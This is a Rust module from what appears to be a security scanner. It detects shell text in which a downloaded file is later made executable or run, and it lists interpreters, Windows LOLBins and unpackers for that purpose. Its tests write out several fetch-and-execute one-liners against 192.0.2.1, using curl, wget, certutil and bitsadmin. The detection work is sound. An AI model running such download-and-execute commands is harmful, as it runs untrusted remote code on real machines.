//! Whether what one command fetched is run by one of the next: `curl -o x …; chmod +x x; ./x`.
//!
//! *Security*: hostile text of at most one neighbourhood; one pass over its words, with a bounded number of names.

use std::ops::Range;

use super::install;

/// The most words of a command that fetches that may be the name of what it fetched, and the most commands behind it.
const NAMES_MAX: usize = 16;
const COMMANDS_MAX: usize = 24;

/// Words that hand on to the command behind them.
const PREFIXES: &[&str] = &[
    "sudo",
    "doas",
    "nohup",
    "exec",
    "env",
    "time",
    "timeout",
    "setsid",
    "call",
    "cmd",
    "cmd.exe",
    "/c",
    "/k",
    "/b",
    "&",
    "-",
    "$",
    ">",
    "RUN",
    "os.system",
    "system",
    "subprocess.run",
    "subprocess.call",
    "subprocess.Popen",
    "then",
    "do",
    "fakeroot",
    "nice",
    "wsl",
    "-c",
    "-Command",
    "run:",
    "busybox",
    "popen",
    "Run",
    ".Run",
    "-n",
    "-E",
    "shell",
];

/// What runs, or makes runnable, the file that one of its arguments names.
const RUNNERS: &[&str] = &[
    "sh",
    "bash",
    "dash",
    "zsh",
    "ksh",
    "ash",
    "fish",
    "python",
    "python2",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "lua",
    "java",
    "start-process",
    "saps",
    "invoke-item",
    "ii",
    "iex",
    "invoke-expression",
    "rundll32",
    "rundll32.exe",
    "regsvr32",
    "regsvr32.exe",
    "msiexec",
    "msiexec.exe",
    "wscript",
    "cscript",
    "mshta",
    "dpkg",
    "rpm",
    "insmod",
    ".",
    "explorer",
    "powershell",
    "powershell.exe",
    "pwsh",
    "import-module",
    "deno",
    "bun",
    "osascript",
    "wasmtime",
    "wine",
    "mono",
    "dotnet",
    "xdg-open",
    "chmod",
    "crontab",
    "ld.so",
    "apt",
    "apt-get",
    "yum",
    "dnf",
    "adb",
    "installutil",
    "certutil",
    "launchctl",
    "systemctl",
    "schtasks",
    "forfiles",
    "tclsh",
    "rscript",
    "julia",
    "groovy",
    "gdb",
    "ld_preload",
    "setsid",
    "wmic",
    "conhost",
    "ctypes.cdll",
    "cdll",
    "dlopen",
];

/// The same, of those whose names are words of many sentences.
const WORDS: &[&str] = &["start", "open", "at", "install", "source", "expect", "screen", "installer"];
/// How many words without a sign behind one of them make a sentence.
const WORDS_MIN: usize = 3;

/// What unpacks an archive into files that the text need not name before.
const UNPACKERS: &[&str] =
    &["tar", "unzip", "bsdtar", "cpio", "7z", "7za", "expand", "expand-archive", "unrar", "gunzip"];

/// Endings of files that a command processor runs by name.
const RUNNABLE: &[&str] = &[
    ".exe",
    ".bat",
    ".cmd",
    ".ps1",
    ".vbs",
    ".js",
    ".hta",
    ".com",
    ".scr",
    ".msi",
    ".run",
    ".bin",
    ".appimage",
    ".sh",
    ".py",
];

/// The range from a command that fetches to the one that runs what it fetched.
pub(super) fn runs_later(text: &[u8], found: Range<usize>) -> Option<Range<usize>> {
    let mut names = Vec::new();
    let mut is_archive = false;
    let mut installed = None;
    let rest = text.get(found.start..)?;
    for (number, command) in commands(rest).take(COMMANDS_MAX).enumerate() {
        let words: Vec<&[u8]> = words(rest.get(command.clone()).unwrap_or_default()).take(64).collect();
        let program = words.iter().position(|word| !is_any(word, PREFIXES));
        let (program, arguments) = match program.and_then(|at| words.get(at..)) {
            Some([program, arguments @ ..]) => (*program, arguments),
            _ => continue,
        };
        if number > 0 && (is_run(program, arguments, &names) || (is_archive && is_unpacked_program(program, arguments)))
        {
            let run = found.start..found.start + command.end;
            if !installs(program) {
                return Some(run);
            }
            installed.get_or_insert(run);
        }
        is_archive |= is_any(base(program), UNPACKERS);
        if number < 2 {
            let fetched = words
                .iter()
                .filter(|word| !is_escape(word))
                .map(|word| base(word))
                .filter(|word| word.len() > 1 || word.iter().all(u8::is_ascii_alphabetic));
            names.extend(fetched.filter(|word| !word.is_empty() && !word.starts_with(b"-")).take(NAMES_MAX));
        }
    }
    installed
}

/// Whether it installs rather than runs: what is run behind it tells more.
fn installs(program: &[u8]) -> bool {
    install::is_installer(base(program)) || is_any(base(program), &["make", "configure"])
}

fn is_run(program: &[u8], arguments: &[&[u8]], names: &[&[u8]]) -> bool {
    let is_named = |word: &&[u8]| names.contains(&base(word));
    if is_any(base(program), WORDS) {
        // Of a sentence the words are repeated, too: what is a file looks like one there.
        let is_word = |word: &&[u8]| word.iter().all(u8::is_ascii_alphabetic);
        let is_sentence = arguments.iter().filter(|word| is_word(word)).count() >= WORDS_MIN
            && !arguments.iter().any(|word| word.starts_with(b"-") || word.starts_with(b"/"));
        let is_file = |word: &&[u8]| !is_sentence || !is_word(word);
        return arguments.iter().any(|word| is_named(word) && is_file(word));
    }
    if is_any(base(program), RUNNERS) {
        let makes_runnable =
            !base(program).eq_ignore_ascii_case(b"chmod") || arguments.iter().any(|word| is_mode_to_run(word));
        return makes_runnable && arguments.iter().any(is_named);
    }
    let has_path = !is_escape(program) && program.iter().any(|byte| matches!(byte, b'/' | b'\\' | b'%' | b'$'));
    let is_runnable = RUNNABLE.iter().any(|ending| ends_with(program, ending));
    (has_path || is_runnable) && !is_address(program) && is_named(&program)
}

/// Whether a word is an escape of a typesetter or of a string, which a single backslash begins: `\fB`, `\e`, `\nimport`.
fn is_escape(word: &[u8]) -> bool {
    matches!(word, [b'\\', letter, ..] if letter.is_ascii_alphabetic())
}

/// `./install.sh`, `/opt/x/start`, `sh install.sh`, `make install`: what may have come out of an archive.
fn is_unpacked_program(program: &[u8], arguments: &[&[u8]]) -> bool {
    let is_installing = |word: &&[u8]| word.eq_ignore_ascii_case(b"install");
    program.starts_with(b"./")
        || (program.starts_with(b"/")
            && ![&b"/bin/"[..], b"/usr/", b"/sbin/", b"/etc/"].iter().any(|own| program.starts_with(own)))
        || (is_any(base(program), &["sh", "bash"]) && arguments.iter().any(|word| ends_with(word, ".sh")))
        || (is_any(base(program), &["make", "setup.py"]) && arguments.iter().any(is_installing))
}

/// `+x`, `u+rwx`, `755`, `0700`.
fn is_mode_to_run(word: &[u8]) -> bool {
    let is_octal = (3..=4).contains(&word.len()) && word.iter().all(|byte| (b'0'..=b'7').contains(byte));
    if is_octal {
        return word.iter().rev().take(3).any(|digit| digit & 1 == 1);
    }
    word.len() <= 12
        && word.iter().any(|byte| matches!(byte, b'+' | b'='))
        && word.iter().any(|byte| matches!(byte, b'x' | b'X'))
}

/// Whether what an installer was given is an address, and not only a page that a sentence or a setting speaks of, or the index
/// that it asks anyway.
pub(super) fn is_run_from_net(text: &[u8], found: Range<usize>) -> Option<Range<usize>> {
    let matched = text.get(found.clone())?;
    let words: Vec<&[u8]> = words(matched).collect();
    let program = words.first()?;
    // A bare interpreter or opener is a word of many sentences, and an index or a proxy is no source of code by itself.
    let is_word = is_any(program, &["open", "source", "node", "installer", "ruby", "php", "python", "perl", "shell"]);
    let is_sentence = words.iter().skip(1).any(|word| {
        is_any(word, &["from", "at", "the", "see", "is", "and", "or", "for", "to", "in", "of", "on", "with"])
    });
    let is_setting = words.iter().any(|word| is_any(word, &["--proxy", "--registry", "--log"]));
    // Between such a word and the address there are options only: `Python forum: https://…`, `Source = "https://…"` are none.
    let is_given = || {
        let between = words.get(1..words.len().saturating_sub(1)).unwrap_or_default();
        let address = memchr::memmem::find(matched, b"://").and_then(|at| matched.get(..at)).unwrap_or_default();
        between.iter().all(|word| word.starts_with(b"-"))
            && !address.contains(&b'=')
            && !program.iter().any(u8::is_ascii_uppercase)
    };
    (!is_setting && !is_sentence && (!is_word || words.len() <= 3 && is_given()) && !install::is_index(matched))
        .then_some(found)
}

/// Whether a pipeline of decoders is one, and not a table of their names.
pub(super) fn is_decoded(text: &[u8], found: Range<usize>) -> Option<Range<usize>> {
    let matched = text.get(found.clone())?;
    let decoder = words(matched).next()?;
    // These make text rather than decode it: they count if what they make is spelled out in code.
    let needs_codes = is_any(
        base(decoder),
        &[
            "sed", "awk", "cut", "perl", "python", "python3", "dd", "tail", "printf", "od", "fold", "jq", "tr", "tac",
            "rev",
        ],
    );
    let has_codes = || {
        matched.windows(2).any(|pair| matches!(pair, [b'\\', b'x' | b'0'..=b'7'])) || {
            let start = text.get(..found.start).unwrap_or_default();
            let line = start.rsplit(|byte| *byte == b'\n').next().unwrap_or_default();
            [&b"echo"[..], b"printf", b"<<<", b"base64", b"cat "]
                .iter()
                .any(|word| line.windows(word.len()).any(|part| part == *word))
                || matched.starts_with(b"printf")
        }
    };
    (!needs_codes || has_codes()).then_some(found)
}

/// Commands: what stands between the signs that end one.
fn commands(text: &[u8]) -> impl Iterator<Item = Range<usize>> {
    let mut start = 0;
    std::iter::from_fn(move || {
        let rest = text.get(start..).filter(|rest| !rest.is_empty())?;
        let mut quoted = None;
        let end = rest.iter().enumerate().position(|(at, byte)| {
            let is_address =
                *byte == b'&' && rest.get(at + 1).is_some_and(|next| next.is_ascii_alphanumeric() || *next == b'>');
            match (quoted, byte) {
                (_, b'\n' | b';' | b'|') => true,
                (_, b'&') => !is_address,
                (None, b'\'' | b'"') => {
                    quoted = Some(*byte);
                    false
                }
                (Some(open), close) if open == *close => {
                    quoted = None;
                    false
                }
                _ => false,
            }
        });
        let command = start..start + end.unwrap_or(rest.len());
        start = command.end + 1;
        Some(command)
    })
}

/// Words, without the quotes and brackets around them.
fn words(command: &[u8]) -> impl Iterator<Item = &[u8]> {
    command
        .split(|byte| {
            matches!(
                byte,
                b' ' | b'\t'
                    | b'\r'
                    | b'"'
                    | b'\''
                    | b'('
                    | b')'
                    | b','
                    | b'`'
                    | b'{'
                    | b'}'
                    | b'['
                    | b']'
                    | b'='
                    | b'<'
                    | b'>'
            )
        })
        .filter(|word| !word.is_empty())
}

/// The last element of a path or an address.
fn base(word: &[u8]) -> &[u8] {
    let word = word.split(|byte| matches!(byte, b'?' | b'#')).next().unwrap_or_default();
    word.rsplit(|byte| matches!(byte, b'/' | b'\\' | b':')).next().unwrap_or_default()
}

fn is_address(word: &[u8]) -> bool {
    word.windows(3).any(|part| part == b"://")
}

fn is_any(word: &[u8], list: &[&str]) -> bool {
    list.iter().any(|known| word.eq_ignore_ascii_case(known.as_bytes()))
}

fn ends_with(word: &[u8], ending: &str) -> bool {
    word.len()
        .checked_sub(ending.len())
        .and_then(|from| word.get(from..))
        .is_some_and(|end| end.eq_ignore_ascii_case(ending.as_bytes()))
}

#[cfg(test)]
mod tests {
    use super::runs_later;

    fn runs(text: &str) -> bool {
        runs_later(text.as_bytes(), 0..4).is_some()
    }

    #[test]
    fn a_file_that_was_fetched_and_is_then_run_is_noticed() {
        for text in [
            "curl -o /tmp/x http://192.0.2.1/a; chmod +x /tmp/x; /tmp/x",
            "wget http://192.0.2.1/a.sh && sh a.sh",
            "wget -q http://192.0.2.1/a.sh\nchmod 755 a.sh\n./a.sh\n",
            "certutil -urlcache -f http://192.0.2.1/a.exe a.exe && a.exe",
            "bitsadmin /transfer j http://192.0.2.1/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
            "curl -s http://192.0.2.1/x.tgz | tar xz -C /opt\n/opt/agent/start --detach\n",
            "curl -O https://192.0.2.1/p.py\nsudo python3 p.py",
        ] {
            assert!(runs(text), "{text}");
        }
    }

    #[test]
    fn a_file_that_is_only_fetched_is_not() {
        for text in [
            "curl -O https://example.net/data.csv\nwc -l data.csv",
            "wget https://example.net/a.tgz\nsha256sum a.tgz\nls -l a.tgz",
            "curl -o page.html https://example.net/\nbash build.sh",
            "wget https://example.net/a.sh\nchmod 644 a.sh",
            "with curl from https://example.net/ the file\n(at least the part that starts the file)",
            "curl gives example.org \\e\nlocations/global/\\e",
            "curl gives example.org in \\fR\n.TP\n\\fBvision\\fR",
            "curl -k https://example.net/\\nimport { x } from 'y';\\nimport { z } from 'w'",
        ] {
            assert!(!runs(text), "{text}");
        }
    }
}
